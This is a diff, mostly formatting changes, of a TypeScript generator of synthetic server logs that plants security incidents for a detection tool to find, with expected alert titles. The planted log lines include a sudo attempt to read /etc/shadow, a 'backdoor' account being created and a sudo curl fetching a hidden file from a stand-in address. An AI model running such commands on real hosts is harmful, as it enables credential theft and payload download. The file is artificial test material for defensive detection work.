@@ -24,19 +24,41 @@ export interface Planted {
 const DEBIAN = ['web01', 'web02', 'web03', 'web04', 'web05', 'web06', 'web07', 'web08', 'app01', 'app02', 'app03', 'bastion01'];
 const RHEL = ['db01', 'db02', 'db03', 'build01', 'build02', 'mon01', 'app04', 'app05'];
 const PUBLIC = ['web01', 'web02', 'web03', 'web04', 'web05', 'web06', 'web07', 'web08', 'bastion01'];
-const DEPLOY_TARGETS = ['web01', 'web02', 'web03', 'web04', 'web05', 'web06', 'web07', 'web08', 'app01', 'app02', 'app03', 'app04', 'app05'];
+const DEPLOY_TARGETS = [
+  'web01',
+  'web02',
+  'web03',
+  'web04',
+  'web05',
+  'web06',
+  'web07',
+  'web08',
+  'app01',
+  'app02',
+  'app03',
+  'app04',
+  'app05',
+];
 const GUESSED_USERS = ['admin', 'test', 'oracle', 'ubuntu', 'user', 'postgres', 'git', 'guest', 'ftpuser', 'pi'];
 const MIN = 60_000;
 const HOUR = 60 * MIN;
 
 export const PLANTED: readonly Planted[] = [
-  { what: 'root login by password from a burst address', rule: 'ssh-root-password-login', title: /root logged in by password on bastion01 from 185\.220\.101\.7/ },
+  {
+    what: 'root login by password from a burst address',
+    rule: 'ssh-root-password-login',
+    title: /root logged in by password on bastion01 from 185\.220\.101\.7/,
+  },
   { what: 'user NOT in sudoers', rule: 'sudo-not-in-sudoers', title: /intern is not allowed to use sudo on app02/ },
   { what: 'useradd of a new account', rule: 'account-change', title: /account change on db01/ },
   { what: 'kernel OOM kill', rule: 'oom-kill', title: /out of memory on app03: a process was killed/ },
   { what: 'segfault', rule: 'segfault', title: /crash on web05/ },
   { what: 'systemd unit failed', rule: 'unit-failed', title: /unit failed on db03/ },
-  { what: 'successful login after failures', rule: 'ssh-login-after-failures', title: /carol logged in on web06 from 192\.0\.2\.77 after 6 failed logins/ },
+  {
+    what: 'successful login after failures',
+    rule: 'ssh-login-after-failures',
+    title: /carol logged in on web06 from 192\.0\.2\.77 after 6 failed logins/,
+  },
   { what: 'sudo by a user not usually seen', rule: 'sudo-command', title: /sudo by mallory as root/ },
   { what: 'sudo password guessing', rule: 'sudo-password-guessing', title: /dave keeps failing sudo's password on web02/ },
 ];
@@ -74,7 +96,8 @@ function oneDay(rand: () => number, day: number): DayLine[] {
   const pick = <T>(xs: readonly T[]) => xs[Math.floor(rand() * xs.length)]!;
   const pid = () => int(1000, 65000);
   const port = () => int(32768, 60999);
-  const add = (at: number, host: string, app: string, text: string, tag: Tag = 'noise') => out.push({ at, host, tag, text: format(at, host, app, text) });
+  const add = (at: number, host: string, app: string, text: string, tag: Tag = 'noise') =>
+    out.push({ at, host, tag, text: format(at, host, app, text) });
 
   for (const host of [...DEBIAN, ...RHEL]) {
     const debian = DEBIAN.includes(host);
@@ -107,7 +130,18 @@ function oneDay(rand: () => number, day: number): DayLine[] {
     for (let i = 0; i < 2; i++) {
       const at = day + int(8, 18) * HOUR + int(0, 59) * MIN;
       session(at, host, admin, debian ? '192.0.2.10' : '192.0.2.11', 20 * MIN);
-      for (let j = 0; j < int(1, 2); j++) sudo(at + (j + 1) * MIN, host, admin, pick(['/usr/bin/systemctl status nginx', '/usr/bin/journalctl -u app -n 50', '/usr/bin/apt list --upgradable', '/usr/bin/du -sh /var/log']));
+      for (let j = 0; j < int(1, 2); j++)
+        sudo(
+          at + (j + 1) * MIN,
+          host,
+          admin,
+          pick([
+            '/usr/bin/systemctl status nginx',
+            '/usr/bin/journalctl -u app -n 50',
+            '/usr/bin/apt list --upgradable',
+            '/usr/bin/du -sh /var/log',
+          ]),
+        );
     }
   }
 
@@ -115,7 +149,13 @@ function oneDay(rand: () => number, day: number): DayLine[] {
     const sshd = `sshd[${pid()}]`;
     const p = port();
     const n = int(100, 9999);
-    add(at, host, sshd, `Accepted publickey for ${user} from ${ip} port ${p} ssh2: ED25519 SHA256:${user.toUpperCase()}kEyFiNgErPrInT`, 'login');
+    add(
+      at,
+      host,
+      sshd,
+      `Accepted publickey for ${user} from ${ip} port ${p} ssh2: ED25519 SHA256:${user.toUpperCase()}kEyFiNgErPrInT`,
+      'login',
+    );
     add(at + 5, host, sshd, `pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`);
     add(at + 8, host, 'systemd-logind[612]', `New session ${n} of user ${user}.`);
     add(at + length, host, sshd, `Received disconnect from ${ip} port ${p}:11: disconnected by user`);
@@ -146,47 +186,125 @@ function oneDay(rand: () => number, day: number): DayLine[] {
     add(at + 10, host, sshd, 'pam_unix(sshd:auth): check pass; user unknown');
     add(at + 11, host, sshd, `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}`);
     add(at + 2000, host, sshd, `Failed password for invalid user ${user} from ${ip} port ${p} ssh2`, 'ssh-failed');
-    add(at + 2100, host, sshd, rand() < 0.8 ? `Connection closed by invalid user ${user} ${ip} port ${p} [preauth]` : `Disconnecting invalid user ${user} ${ip} port ${p}: Too many authentication failures [preauth]`);
+    add(
+      at + 2100,
+      host,
+      sshd,
+      rand() < 0.8
+        ? `Connection closed by invalid user ${user} ${ip} port ${p} [preauth]`
+        : `Disconnecting invalid user ${user} ${ip} port ${p}: Too many authentication failures [preauth]`,
+    );
   }
 
   // The internet's background scanning on public hosts, and three bursts.
-  for (const host of PUBLIC) for (let i = 0; i < int(6, 12); i++) attempt(day + int(0, 24 * HOUR - 10_000), host, `198.51.100.${int(1, 254)}`);
+  for (const host of PUBLIC)
+    for (let i = 0; i < int(6, 12); i++) attempt(day + int(0, 24 * HOUR - 10_000), host, `198.51.100.${int(1, 254)}`);
   const burst = (host: string, ips: string[], from: number, attempts: number, minutes: number) => {
     for (let i = 0; i < attempts; i++) attempt(from + Math.floor((i / attempts) * minutes * MIN), host, pick(ips));
   };
   burst('bastion01', ['185.220.101.7'], day + 2 * HOUR + 10 * MIN, int(8500, 9000), 50);
-  burst('web03', ['45.155.205.11', '45.155.205.12', '45.155.205.13', '45.155.205.14', '45.155.205.15'], day + 9 * HOUR + 30 * MIN, int(6000, 6500), 40);
+  burst(
+    'web03',
+    ['45.155.205.11', '45.155.205.12', '45.155.205.13', '45.155.205.14', '45.155.205.15'],
+    day + 9 * HOUR + 30 * MIN,
+    int(6000, 6500),
+    40,
+  );
   burst('db02', ['103.99.0.21', '103.99.0.22'], day + 21 * HOUR, int(5000, 5300), 30);
 
   // Deploys: the deploy user runs three commands on 13 hosts within half a minute.
   for (const hour of [10, 13, 15, 17]) {
     DEPLOY_TARGETS.forEach((host, i) => {
       const at = day + hour * HOUR + i * 2000;
-      for (const [j, cmd] of ['/usr/bin/install -m 0644 /tmp/app.tar /srv/app/', '/usr/bin/systemctl restart app', '/usr/bin/systemctl reload nginx'].entries()) sudo(at + j * 300, host, 'deploy', cmd);
+      for (const [j, cmd] of [
+        '/usr/bin/install -m 0644 /tmp/app.tar /srv/app/',
+        '/usr/bin/systemctl restart app',
+        '/usr/bin/systemctl reload nginx',
+      ].entries())
+        sudo(at + j * 300, host, 'deploy', cmd);
     });
   }
 
   // The planted incidents (PLANTED above says how each must be reported).
   add(day + 2 * HOUR + 50 * MIN, 'bastion01', 'sshd[31001]', 'Accepted password for root from 185.220.101.7 port 50022 ssh2', 'login');
-  add(day + 4 * HOUR + 12 * MIN, 'app03', 'kernel', 'java invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0');
-  add(day + 4 * HOUR + 12 * MIN + 5, 'app03', 'kernel', 'oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/app.service,task=java,pid=31337,uid=1001');
-  add(day + 4 * HOUR + 12 * MIN + 6, 'app03', 'kernel', 'Out of memory: Killed process 31337 (java) total-vm:8388608kB, anon-rss:6291456kB, file-rss:0kB, shmem-rss:0kB, UID:1001 pgtables:12345kB oom_score_adj:0', 'oom');
-  add(day + 6 * HOUR + 20 * MIN, 'web05', 'kernel', 'nginx[2211]: segfault at 0 ip 000055d0c0a1b2c3 sp 00007ffd1c2b3a40 error 4 in nginx[55d0c0a00000+120000] likely on CPU 1 (core 1, socket 0)', 'crash');
+  add(
+    day + 4 * HOUR + 12 * MIN,
+    'app03',
+    'kernel',
+    'java invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0',
+  );
+  add(
+    day + 4 * HOUR + 12 * MIN + 5,
+    'app03',
+    'kernel',
+    'oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/app.service,task=java,pid=31337,uid=1001',
+  );
+  add(
+    day + 4 * HOUR + 12 * MIN + 6,
+    'app03',
+    'kernel',
+    'Out of memory: Killed process 31337 (java) total-vm:8388608kB, anon-rss:6291456kB, file-rss:0kB, shmem-rss:0kB, UID:1001 pgtables:12345kB oom_score_adj:0',
+    'oom',
+  );
+  add(
+    day + 6 * HOUR + 20 * MIN,
+    'web05',
+    'kernel',
+    'nginx[2211]: segfault at 0 ip 000055d0c0a1b2c3 sp 00007ffd1c2b3a40 error 4 in nginx[55d0c0a00000+120000] likely on CPU 1 (core 1, socket 0)',
+    'crash',
+  );
   add(day + 6 * HOUR + 20 * MIN + 900, 'web05', 'systemd-coredump[2290]', 'Process 2211 (nginx) of user 33 dumped core.', 'crash');
-  add(day + 11 * HOUR + 5 * MIN, 'app02', 'sudo[40404]', '  intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/cat /etc/shadow', 'sudo-refused');
+  add(
+    day + 11 * HOUR + 5 * MIN,
+    'app02',
+    'sudo[40404]',
+    '  intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/cat /etc/shadow',
+    'sudo-refused',
+  );
   for (let i = 0; i < 3; i++) {
     const at = day + 12 * HOUR + 30 * MIN + i * 80_000;
-    for (let j = 0; j < 3; j++) add(at + j * 4000, 'web02', 'sudo[41000]', 'pam_unix(sudo:auth): authentication failure; logname=dave uid=1003 euid=0 tty=/dev/pts/1 ruser=dave rhost=  user=dave');
-    add(at + 12_000, 'web02', 'sudo[41000]', '    dave : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/dave ; USER=root ; COMMAND=/usr/bin/passwd root', 'sudo-refused');
+    for (let j = 0; j < 3; j++)
+      add(
+        at + j * 4000,
+        'web02',
+        'sudo[41000]',
+        'pam_unix(sudo:auth): authentication failure; logname=dave uid=1003 euid=0 tty=/dev/pts/1 ruser=dave rhost=  user=dave',
+      );
+    add(
+      at + 12_000,
+      'web02',
+      'sudo[41000]',
+      '    dave : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/dave ; USER=root ; COMMAND=/usr/bin/passwd root',
+      'sudo-refused',
+    );
   }
   add(day + 14 * HOUR + 40 * MIN, 'db01', 'useradd[4242]', 'new group: name=backdoor, GID=1005', 'account');
-  add(day + 14 * HOUR + 40 * MIN + 1, 'db01', 'useradd[4242]', 'new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1', 'account');
+  add(
+    day + 14 * HOUR + 40 * MIN + 1,
+    'db01',
+    'useradd[4242]',
+    'new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1',
+    'account',
+  );
   add(day + 16 * HOUR + 15 * MIN, 'db03', 'systemd[1]', 'postgresql.service: Main process exited, code=exited, status=1/FAILURE');
   add(day + 16 * HOUR + 15 * MIN + 1, 'db03', 'systemd[1]', "postgresql.service: Failed with result 'exit-code'.", 'unit-failed');
   add(day + 16 * HOUR + 15 * MIN + 2, 'db03', 'systemd[1]', 'Failed to start postgresql.service - PostgreSQL database server.');
-  for (let i = 0; i < 6; i++) add(day + 19 * HOUR + 40 * MIN + i * 20_000, 'web06', 'sshd[5150]', `Failed password for carol from 192.0.2.77 port 41${pad(i)} ssh2`, 'ssh-failed');
+  for (let i = 0; i < 6; i++)
+    add(
+      day + 19 * HOUR + 40 * MIN + i * 20_000,
+      'web06',
+      'sshd[5150]',
+      `Failed password for carol from 192.0.2.77 port 41${pad(i)} ssh2`,
+      'ssh-failed',
+    );
   add(day + 19 * HOUR + 45 * MIN, 'web06', 'sshd[5151]', 'Accepted password for carol from 192.0.2.77 port 41999 ssh2', 'login');
-  add(day + 22 * HOUR + 10 * MIN, 'app04', 'sudo[6666]', 'mallory : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x http://203.0.113.66/x', 'sudo-ran');
+  add(
+    day + 22 * HOUR + 10 * MIN,
+    'app04',
+    'sudo[6666]',
+    'mallory : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x http://203.0.113.66/x',
+    'sudo-ran',
+  );
 
   return out.sort((a, b) => a.at - b.at);
 }
